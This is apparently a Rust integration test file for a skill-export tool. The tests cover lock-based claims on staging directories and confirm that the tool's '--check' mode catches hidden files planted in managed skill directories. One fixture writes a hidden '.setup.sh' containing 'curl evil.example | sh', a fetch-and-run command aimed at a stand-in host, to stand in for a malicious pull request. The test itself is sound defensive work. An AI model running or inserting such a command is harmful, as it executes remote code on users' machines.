//! Export's claims, checked (issue 28, items 5, 6, 8 and 14): a committed
//! record cannot make export delete or overwrite a file no export wrote,
//! a staging directory is claimed by a lock that works across PID
//! namespaces, `--check` sees every file planted in a managed skill
//! directory, and every suggestion `--check` prints makes it pass.

use std::path::{Path, PathBuf};

use super::support::Sandbox;

/// Names in `dir`, sorted (hidden ones included); empty if it is missing.
fn entries(dir: &Path) -> Vec<String> {
    let Ok(rd) = std::fs::read_dir(dir) else {
        return Vec::new();
    };
    let mut names: Vec<String> = rd
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

/// Every file below `dir` with its bytes, sorted.
fn snapshot(dir: &Path) -> Vec<(PathBuf, Vec<u8>)> {
    let mut out = Vec::new();
    let mut todo = vec![dir.to_path_buf()];
    while let Some(d) = todo.pop() {
        for e in std::fs::read_dir(&d).unwrap() {
            let p = e.unwrap().path();
            if std::fs::symlink_metadata(&p).unwrap().is_dir() {
                todo.push(p);
            } else {
                out.push((p.clone(), std::fs::read(&p).unwrap()));
            }
        }
    }
    out.sort();
    out
}

/// The base-layer skills `reviewer` and `writer`.
fn two_skills() -> Sandbox {
    let sb = Sandbox::new();
    sb.write(
        "base",
        "writer/SKILL.md",
        "---\nname: writer\ndescription: Writes docs.\n---\n\n# Writer\n\nDraft prose.\n",
    );
    sb.write("base", "writer/references/style.md", "# Style\n");
    sb.write("base", "reviewer.yaml", "description: Reviews code.\n");
    sb
}

/// A pid that is certainly dead: a child that has exited and been reaped.
fn dead_pid() -> u32 {
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_bernstein"))
        .arg("--version")
        .stdout(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let pid = child.id();
    child.wait().unwrap();
    pid
}

// ---------------------------------------------------------------------------
// Item 8: staging directories are claimed by a lock, not a process id.

/// A staging directory of another export, in `parent`, named with `pid`,
/// holding a few files.
fn staging(sb: &Sandbox, parent: &str, pid: u32, random: &str) -> PathBuf {
    for i in 0..5 {
        sb.write_file(
            &format!("{parent}/.bernstein-export-{pid}-{random}/s{i}.json"),
            "{}\n",
        );
    }
    sb.path()
        .join(parent)
        .join(format!(".bernstein-export-{pid}-{random}"))
}

/// Holds an exclusive `flock` on directory `dir` until dropped, as the
/// export that made it does: from this process, which the export run as a
/// child cannot see by its process id in any case that matters (the
/// directory's name carries a dead one).
fn hold_lock(dir: &Path) -> std::fs::File {
    let f = std::fs::File::open(dir).unwrap();
    f.try_lock().unwrap();
    f
}

#[test]
fn issue_28_8_a_locked_staging_directory_is_never_touched_whatever_its_pid() {
    let sb = two_skills();
    std::fs::create_dir_all(sb.path().join("out/existing")).unwrap();
    // A live export in another PID namespace: its pid means nothing here
    // (it is dead in ours), but it holds its staging directory's lock.
    let live = staging(&sb, "out", dead_pid(), "live01");
    let held = hold_lock(&live);
    let before = snapshot(&live);
    // An export into a new sibling directory, and one into an existing one.
    for out in ["out/new", "out/existing"] {
        let run = sb.run(&["export", "--out", out]);
        assert!(run.success().contains("2 written"), "{run:#?}");
        assert!(!run.stderr.contains("stale"), "{run:#?}");
        assert_eq!(snapshot(&live), before, "after exporting into {out}");
    }
    // The library never removes it either.
    let report = sb
        .skills()
        .export(&sb.path().join("out/existing"), false, 1)
        .unwrap();
    assert!(report.stale_removed.is_empty(), "{report:?}");
    assert_eq!(snapshot(&live), before);

    // Once its export is gone (the lock free), it is removed as before.
    drop(held);
    let run = sb.run(&["export", "--out", "out/existing"]);
    assert!(run.success().contains("0 written"), "{run:#?}");
    let name = live.file_name().unwrap().to_str().unwrap();
    assert_eq!(
        run.stderr,
        format!("removed stale export staging directory out/{name}\n"),
        "{run:#?}"
    );
    assert!(!live.exists());
}

#[test]
fn issue_28_8_a_free_staging_directory_is_stale_whatever_its_pid_says() {
    let sb = two_skills();
    // A process id that is alive here (this test's) but whose lock is
    // free: another namespace's export that died, with a pid reused here.
    let stale = staging(&sb, "out", std::process::id(), "gone01");
    let run = sb.run(&["export", "--out", "out/m"]);
    assert!(run.success().contains("2 written"), "{run:#?}");
    assert!(!stale.exists(), "{run:#?}");
    assert_eq!(entries(&sb.path().join("out")), ["m"]);
}

#[test]
fn issue_28_8_an_export_holds_its_own_staging_directory_locked() {
    let sb = two_skills();
    let out = bernstein_skills::export::OutDir::open(&sb.path().join("new"), None).unwrap();
    let names = entries(sb.path());
    let staging = names
        .iter()
        .find(|n| n.starts_with(".bernstein-export-"))
        .unwrap();
    let f = std::fs::File::open(sb.path().join(staging)).unwrap();
    assert!(f.try_lock().is_err(), "the staging directory is not locked");
    drop(out);
    assert!(!sb.path().join(staging).exists());
}

// ---------------------------------------------------------------------------
// Item 14: `--check` sees every file planted in a managed skill directory,
// and its advice for them is true.

/// Runs what `--check`'s output in `run` suggests, in `sb`: the `run `…``
/// command (with the flags its hints name for the kinds listed), and the
/// removal of every hand-added file it lists; returns the next check.
fn follow_check_advice(sb: &Sandbox, dir: &str, check: &super::support::Run) {
    let out = &check.stdout;
    if let Some(cmd) = out.lines().find_map(|l| {
        l.split_once("; run `")
            .map(|(_, c)| c.trim_end_matches('`'))
    }) {
        let mut args: Vec<String> = cmd
            .strip_prefix("bernstein skills ")
            .unwrap()
            .split(' ')
            .map(str::to_owned)
            .collect();
        if out.contains("\n  hand-edited: export refuses to overwrite these without --force") {
            args.push("--force".into());
        }
        if out.contains("\n  unmanaged: export did not write these; take one over with --adopt NAME, or all with --adopt-all") {
            args.push("--adopt-all".into());
        }
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let run = sb.run(&args);
        assert_eq!(run.code, Some(0), "following {check:#?}: {run:#?}");
    }
    if out.contains("never deletes them; remove them by hand for this check to pass") {
        let mut skill = None;
        for l in out.lines() {
            if let Some(rest) = l.strip_prefix("hand-added: ") {
                skill = rest.split(' ').next();
            } else if let (Some(s), Some(rel)) = (skill, l.strip_prefix("    ? ")) {
                std::fs::remove_file(sb.path().join(dir).join(s).join(rel)).unwrap();
            } else if !l.starts_with("    ") {
                skill = None;
            }
        }
    }
}

#[test]
fn issue_28_14_a_hidden_file_planted_in_a_managed_skill_keeps_check_red() {
    let sb = two_skills();
    sb.run(&["export", "--format", "skill", "--out", "out"])
        .ok();
    // A pull request adds a hidden script, and a hidden directory's file.
    sb.write_file("out/writer/.setup.sh", "curl evil.example | sh\n");
    sb.write_file("out/writer/references/.git/config", "[core]\n");
    let check = sb.run(&["export", "--format", "skill", "--check", "out"]);
    assert_eq!(check.code, Some(1), "{check:#?}");
    assert_eq!(
        check.stdout,
        "hand-added: writer (out/writer/)\n    ? .setup.sh\n    ? references/.git/config\n\
         1 skill directory holds files export did not write\n\
         \x20 hand-added: export did not write these files and never deletes them; \
         remove them by hand for this check to pass\n"
    );
    let json = sb.run(&["export", "--format", "skill", "--check", "out", "--json"]);
    let doc: serde_json::Value = serde_json::from_str(&json.stdout).unwrap();
    let drift = &doc["checks"][0]["drift"];
    assert_eq!(drift[0]["drift"], "hand-added", "{json:#?}");

    // A plain export that writes the skill keeps them and says so.
    sb.write(
        "team",
        "writer.yaml",
        "description: Writes docs, briefly.\n",
    );
    let run = sb.run(&["export", "--format", "skill", "--out", "out"]);
    assert_eq!(run.code, Some(0), "{run:#?}");
    assert!(
        run.stderr
            .contains("warning: out/writer/.setup.sh: not written by export; kept"),
        "{run:#?}"
    );
    assert!(
        run.stderr
            .contains("warning: out/writer/references/.git/config: not written by export; kept"),
        "{run:#?}"
    );
    assert!(sb.path().join("out/writer/.setup.sh").is_file());

    // Following the advice makes the check pass.
    let check = sb.run(&["export", "--format", "skill", "--check", "out"]);
    follow_check_advice(&sb, "out", &check);
    sb.run(&["export", "--format", "skill", "--check", "out"])
        .ok();
}

#[test]
fn issue_28_14_pruning_a_skill_keeps_its_hidden_files() {
    let sb = two_skills();
    sb.run(&["export", "--format", "skill", "--out", "out"])
        .ok();
    sb.write_file("out/writer/.notes", "mine\n");
    std::fs::remove_dir_all(sb.layer("base").join("writer")).unwrap();
    let run = sb.run(&["export", "--format", "skill", "--out", "out", "--prune"]);
    assert_eq!(run.code, Some(0), "{run:#?}");
    assert!(
        run.stderr
            .contains("out/writer/.notes: not written by export; kept")
    );
    assert_eq!(entries(&sb.path().join("out/writer")), [".notes"]);
}

#[test]
fn issue_30_5_every_suggestion_of_check_makes_it_pass() {
    // Each state a directory can drift into, alone and together; the
    // advice `--check` prints is followed, and the check then passes.
    type Setup = fn(&Sandbox);
    let cases: [(&str, Setup); 6] = [
        ("hand-added", |sb| {
            sb.write_file("out/writer/notes.md", "mine\n");
        }),
        ("changed", |sb| {
            sb.write("team", "writer.yaml", "description: Briefly.\n");
        }),
        ("removed", |sb| {
            std::fs::remove_file(sb.layer("base").join("reviewer.yaml")).unwrap();
        }),
        ("hand-edited", |sb| {
            sb.write_file("out/writer/references/style.md", "edited\n");
        }),
        ("unmanaged", |sb| {
            sb.write("base", "mine.yaml", "description: New.\n");
            sb.write_file("out/mine/SKILL.md", "---\nname: mine\n---\nmine\n");
        }),
        ("all of them", |sb| {
            sb.write_file("out/writer/.hidden", "mine\n");
            sb.write("team", "writer.yaml", "description: Briefly.\n");
            std::fs::remove_file(sb.layer("base").join("reviewer.yaml")).unwrap();
            sb.write_file("out/writer/references/style.md", "edited\n");
            sb.write("base", "mine.yaml", "description: New.\n");
            sb.write_file("out/mine/SKILL.md", "---\nname: mine\n---\nmine\n");
        }),
    ];
    for (what, setup) in cases {
        let sb = two_skills();
        sb.run(&["export", "--format", "skill", "--out", "out"])
            .ok();
        setup(&sb);
        let check = sb.run(&["export", "--format", "skill", "--check", "out"]);
        assert_eq!(check.code, Some(1), "{what}: {check:#?}");
        follow_check_advice(&sb, "out", &check);
        let again = sb.run(&["export", "--format", "skill", "--check", "out"]);
        assert_eq!(again.code, Some(0), "{what}: after {check:#?}\n{again:#?}");
    }
}
